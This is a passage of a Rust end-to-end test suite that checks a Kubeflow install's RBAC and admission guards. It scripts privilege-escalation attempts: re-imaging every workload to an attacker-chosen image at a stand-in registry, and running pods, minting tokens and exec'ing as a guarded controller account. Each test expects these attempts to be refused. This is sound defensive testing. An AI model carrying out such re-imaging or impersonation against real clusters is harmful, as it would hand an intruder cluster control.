        let token = as_operator(demo, c).await;
        assert!(
            !can_i(&token, ("*", "", "*", "", "")).await,
            "{c} is cluster-admin after the attempts"
        );
    }

    // Widened by someone who may (an admin here), the annotated role is
    // repaired all the same: the opt-out does not cover what guards privilege.
    tool_ok(
        "kubectl",
        &[
            "patch",
            "clusterrole",
            "training-operator",
            "--type",
            "json",
            "-p",
            widen,
        ],
    );
    wait_for("the widened role to be repaired", TIMEOUT, || async {
        let rules = tool_ok(
            "kubectl",
            &[
                "get",
                "clusterrole",
                "training-operator",
                "-o",
                "jsonpath={.rules}",
            ],
        );
        (!rules.contains(r#""*""#)).then_some(())
    })
    .await;

    // 3. A component CR in a namespace the chart does not allow is refused,
    // and nothing is created for it, cluster-wide or in its namespace.
    apply_yaml(&client, "team-a", kubeflow_e2e::component::TRAINING_CR).await;
    let trainings = component_api(&client, "team-a", "Training");
    let message = wait_not_ready(&trainings, "NamespaceNotAllowed", TIMEOUT).await;
    assert!(message.contains("allowedNamespaces"), "{message}");
    let bindings: Api<ClusterRoleBinding> = Api::all(client.clone());
    for b in bindings
        .list(&ListParams::default())
        .await
        .expect("bindings")
    {
        for s in b.subjects.unwrap_or_default() {
            assert_ne!(
                s.namespace.as_deref(),
                Some("team-a"),
                "{:?}",
                b.metadata.name
            );
        }
    }
    let owned = tool_ok(
        "kubectl",
        &[
            "get",
            "all,secrets,serviceaccounts,clusterroles,validatingwebhookconfigurations",
            "-A",
            "-l",
            "components.kubeflow.org/owner-namespace=team-a",
            "-o",
            "name",
        ],
    );
    assert_eq!(owned.trim(), "", "objects made for the refused CR");
    delete_and_wait(&trainings, "kubeflow", TIMEOUT).await;
    assert!(
        demo.forbidden().is_empty(),
        "an operator made a request its RBAC refused:\n{}",
        demo.forbidden().join("\n")
    );

    // The tenant's namespace goes; the install stays for the next flow.
    let _ = namespaces.delete("team-a", &Default::default()).await;
    kubeflow_e2e::component::wait_gone(&namespaces, "team-a", TIMEOUT).await;
}

/// No operator's token runs an image of its choosing in any of its
/// workloads (the account kept): every Deployment, StatefulSet and
/// DaemonSet of every component, its first container re-imaged as its
/// operator (a strategic merge patch, as `kubectl set image` sends), is
/// refused by the pins. One request each, in process: as `kubectl`
/// processes these 62 attempts were about a third of the reach checks'
/// time. Returns how many were tried.
async fn workloads_keep_their_images(client: &kube::Client, demo: &Demo) -> usize {
    use kube::ResourceExt;
    use kube::api::{ApiResource, DynamicObject, GroupVersionKind, Patch, PatchParams};
    let kinds: Vec<ApiResource> = ["Deployment", "StatefulSet", "DaemonSet"]
        .iter()
        .map(|k| ApiResource::from_gvk(&GroupVersionKind::gvk("apps", "v1", k)))
        .collect();
    let mut reimaged = 0;
    for &c in COMPONENTS.iter() {
        let token = as_operator(demo, c).await;
        let labels =
            ListParams::default().labels(&format!("components.kubeflow.org/component={c}"));
        for resource in &kinds {
            let listed = Api::<DynamicObject>::all_with(client.clone(), resource)
                .list(&labels)
                .await
                .unwrap_or_else(|e| panic!("{c}: list {}: {e}", resource.plural));
            for w in listed.items {
                let (ns, name) = (w.namespace().unwrap_or_default(), w.name_any());
                let container = w
                    .data
                    .pointer("/spec/template/spec/containers/0/name")
                    .and_then(|n| n.as_str())
                    .unwrap_or_else(|| panic!("{} {ns}/{name} runs no container", resource.kind));
                let patch = Patch::Strategic(
                    serde_json::json!({"spec": {"template": {"spec": {"containers": [{"name": container, "image": "reach.example/own-code:1"}]}}}}),
                );
                let changed = Api::<DynamicObject>::namespaced_with(token.clone(), &ns, resource)
                    .patch(&name, &PatchParams::default(), &patch)
                    .await;
                match changed {
                    Err(kube::Error::Api(e)) if e.message.contains("images its bundles run") => {}
                    other => panic!(
                        "{c} re-imaged {} {ns}/{name}, or was refused for another reason: {other:?}",
                        resource.kind
                    ),
                }
                reimaged += 1;
            }
        }
    }
    reimaged
}

/// The profile controller's ServiceAccount may make itself any
/// namespace's administrator (it binds the Kubeflow roles where RBAC cannot
/// name the namespaces): no other controller of the install, though RBAC lets
/// many of them create pods, workloads or tokens in `kubeflow`, may run a
/// pod as it, a Deployment or Job as it, mint its token or exec into its
/// pod (the chart's `guarded-accounts` policy). Every installed controller
/// account is tried, as itself, for what its RBAC allows it there.
async fn the_profile_controllers_account_is_guarded(client: &kube::Client) {
    use k8s_openapi::api::core::v1::ServiceAccount;
    use kube::ResourceExt;
    use kubeflow_e2e::access::{Request, can_user};
    const GUARDED: &str = "profiles-controller-service-account";
    let accounts = kube::api::Api::<ServiceAccount>::all(client.clone())
        .list(&kube::api::ListParams::default().labels("components.kubeflow.org/component"))
        .await
        .expect("the installed ServiceAccounts");
    let pod = format!(
        "apiVersion: v1\nkind: Pod\nmetadata: {{name: reach-guarded, namespace: {KUBEFLOW_NAMESPACE}}}\nspec:\n  serviceAccountName: {GUARDED}\n  containers: [{{name: c, image: busybox}}]\n"
    );
    let deployment = format!(
        "apiVersion: apps/v1\nkind: Deployment\nmetadata: {{name: reach-guarded, namespace: {KUBEFLOW_NAMESPACE}}}\nspec:\n  selector: {{matchLabels: {{app: reach-guarded}}}}\n  template:\n    metadata: {{labels: {{app: reach-guarded}}}}\n    spec:\n      serviceAccountName: {GUARDED}\n      containers: [{{name: c, image: busybox}}]\n"
    );
    let file = std::env::temp_dir().join(format!("reach-guarded-{}.yaml", std::process::id()));
    let profile_pod = tool_ok(
        "kubectl",
        &["get", "pods", "-n", KUBEFLOW_NAMESPACE, "-o", "name"],
    )
    .lines()
    .find_map(|p| {
        p.strip_prefix("pod/")
            .filter(|n| n.starts_with("profiles-deployment-"))
            .map(str::to_string)
    })
    .expect("the profile controller's pod");
    let (mut pods, mut workloads, mut tokens, mut execs) = (0, 0, 0, 0);
    for sa in &accounts.items {
        let (ns, name) = (sa.namespace().unwrap_or_default(), sa.name_any());
        if name == GUARDED {
            continue;
        }
        let user = format!("system:serviceaccount:{ns}:{name}");
        let may = |verb: &'static str,
                   group: &'static str,
                   resource: &'static str,
                   subresource: &'static str,
                   name: &'static str| {
            let user = user.clone();
            async move {
                let what = Request {
                    verb,
                    group,
                    resource,
                    subresource,
                    name,
                    namespace: KUBEFLOW_NAMESPACE,
                };
                can_user(client, &user, what)
                    .await
                    .unwrap_or_else(|e| panic!("{e:#}"))
            }
        };
        let as_it = format!("--as={user}");
        let refused = |args: &[&str]| {
            let with_user: Vec<&str> = std::iter::once(as_it.as_str())
                .chain(args.iter().copied())
                .collect();
            let out = kubeflow_e2e::run_tool("kubectl", &with_user);
            let err = String::from_utf8_lossy(&out.stderr).to_string();
            assert!(!out.status.success(), "{user}: {args:?} was admitted");
            assert!(err.contains("guarded-accounts"), "{user}: {args:?}: {err}");
        };
        if may("create", "", "pods", "", "").await {
            std::fs::write(&file, &pod).expect("write");
            refused(&["create", "-f", &file.display().to_string()]);
            pods += 1;
        }
        if may("create", "apps", "deployments", "", "").await {
            std::fs::write(&file, &deployment).expect("write");
            refused(&["create", "-f", &file.display().to_string()]);
            workloads += 1;
        }
        if may("create", "", "serviceaccounts", "token", GUARDED).await {
            refused(&["create", "token", GUARDED, "-n", KUBEFLOW_NAMESPACE]);
            tokens += 1;
        }
        if may("create", "", "pods", "exec", "").await {
            refused(&["exec", "-n", KUBEFLOW_NAMESPACE, &profile_pod, "--", "true"]);
            execs += 1;
        }
    }
    let _ = std::fs::remove_file(&file);
    eprintln!(
        "controller accounts refused the profile controller's account: {pods} pod, {workloads} Deployment, {tokens} token, {execs} exec attempts"
    );
    // RBAC lets several of them (Knative Eventing's, Katib's, the Spark
    // operator's, the training-operator's) do each in `kubeflow`.
    assert!(
        pods >= 2 && workloads >= 2 && tokens >= 1,
        "too few tried: {pods} {workloads} {tokens}"
    );
}
